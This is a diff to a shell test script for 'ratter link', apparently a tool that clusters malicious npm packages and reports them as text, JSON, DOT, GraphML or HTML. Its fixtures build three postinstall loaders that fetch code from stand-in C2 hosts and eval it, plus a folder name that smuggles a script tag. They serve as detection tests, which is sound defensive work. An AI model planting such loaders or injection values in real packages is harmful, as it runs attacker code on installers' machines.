@@ -115,6 +115,58 @@ J
 expect 'an audit with content' 1 ratter audit --intel none --no-home --scan "$tmp/app"
 holds 'judges the closure as one program' out 'ledger@1.0.0 with tints@1.0.0'
 
+# ---- ratter link: the same pair, told as a graph
+expect 'link says which packages belong together' 1 ratter link "$tmp/app"
+holds 'the cluster' out '^Cluster 1: 2 packages, conclusive'
+holds 'the order' out 'ledger@1.0.0 -> tints@1.0.0'
+holds 'the first half with its line' out '1\. ledger@1.0.0 sets env LGR_STATE, with what a server sent \(import\) \[index.js:1\]'
+holds 'what signal it is' out 'T-XPKG-02'
+holds 'and that one project asks for both' out 'T-XPKG-09'
+expect 'a lockfile is followed to what is installed' 1 ratter link --no-home "$tmp/app/package-lock.json"
+holds 'and gives the same pair' out 'ledger@1.0.0 -> tints@1.0.0'
+mkdir -p "$tmp/shelf"
+tar -C "$tmp/env" -czf "$tmp/shelf/ledger-1.0.0.tgz" ledger
+tar -C "$tmp/env" -czf "$tmp/shelf/tints-1.0.0.tgz" tints
+expect 'a folder full of archives' 1 ratter link --format json "$tmp/shelf"
+check 'is a shelf of packages' python3 -c 'import json,sys
+d=json.load(open(sys.argv[1]))
+assert d["examined"]==2 and len(d["links"])==1 and d["links"][0]["level"]=="conclusive" and d["links"][0]["ordered"], d
+assert [d["packages"][d["links"][0][k]]["name"] for k in ("first","second")]==["ledger","tints"]' "$tmp/out"
+expect 'as DOT' 1 ratter link --format dot "$tmp/shelf"
+holds 'is a graph' out '^  p0 -> p1 '
+expect 'as GraphML' 1 ratter link --format graphml "$tmp/shelf"
+check 'is XML' python3 -c 'import sys,xml.etree.ElementTree as e; assert len(list(e.parse(sys.argv[1]).iter("{http://graphml.graphdrawing.org/xmlns}edge")))==1' "$tmp/out"
+expect 'as a page' 1 ratter link --format html "$tmp/shelf"
+lacks 'has no script' out '<script'
+
+# Three loaders of one hand: other names, other hosts, other literals, one shape, one e-mail.
+for one in first second third; do
+    package "hand/$one-validator" ',"author":"Eve <eve@example.invalid>","scripts":{"postinstall":"node index.js"}' <<JS
+const h_$one = require('https'), u_$one = 'https://c2-$one.example.invalid/x';
+function go_$one(u) { h_$one.get(u, r => { let d_$one = ''; r.on('data', c => { d_$one += c; }); r.on('end', () => { try { eval(d_$one); } catch (e) { setTimeout(() => go_$one(u), 1${#one}00); } }); }).on('error', () => {}); }
+go_$one(u_$one);
+JS
+done
+expect 'three loaders of one hand' 0 ratter link "$tmp/hand"
+holds 'are one cluster' out '^Cluster 1: 3 packages, strong'
+holds 'by their shape' out 'T-XPKG-05'
+expect 'asked for by account' 0 ratter link --account eve "$tmp/hand" "$tmp/file"
+holds 'only their cluster is told' out '^Cluster 1: 3 packages, strong'
+lacks 'not the other' out 'ledger'
+expect 'asked for by campaign' 0 ratter link --campaign polinrider "$tmp/hand" "$tmp/file"
+holds 'that nothing resembles' out ' 0 clusters, 0 links'
+expect 'a campaign nobody knows' 2 ratter link --campaign nobody "$tmp/hand"
+holds 'is named' err 'nobody'
+expect 'a format nobody knows' 2 ratter link --format pdf "$tmp/hand"
+expect 'a path that is not there' 2 ratter link "$tmp/nowhere"
+mkdir "$tmp/empty"
+expect 'nothing to link' 4 ratter link "$tmp/empty"
+mkdir -p "$tmp/odd/"'a"];<script>x'
+cp "$tmp/env/ledger/"* "$tmp/odd/"'a"];<script>x/'
+cp -r "$tmp/env/tints" "$tmp/odd/"
+expect 'a hostile folder name' 1 ratter link --format html "$tmp/odd"
+lacks 'is no markup' out '<script'
+
 # ---- what is honest
 package kin/tool ',"dependencies":{"tool-core":"1"}' <<'JS'
 const fs = require('fs'), os = require('os');
